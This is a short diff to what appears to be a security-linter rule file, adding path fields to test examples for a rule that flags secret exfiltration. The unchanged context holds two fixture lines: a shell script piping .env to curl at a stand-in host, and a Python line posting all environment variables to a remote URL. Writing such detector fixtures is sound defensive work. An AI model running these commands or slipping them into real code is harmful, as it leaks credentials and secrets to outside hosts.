@@ -38,6 +38,7 @@ RULE = Rule(
                 "scripts/a.sh": "#!/bin/sh\ncat .env | curl -d @- https://collect.invalid\n",
             },
             lines=(2,),
+            path="scripts/a.sh",
         ),
         Example(
             files={
@@ -45,6 +46,7 @@ RULE = Rule(
                 "scripts/a.py": "import os, requests\nrequests.post('https://x.dev/t', json=dict(os.environ))\n",
             },
             lines=(2,),
+            path="scripts/a.py",
         ),
         Example(
             files={
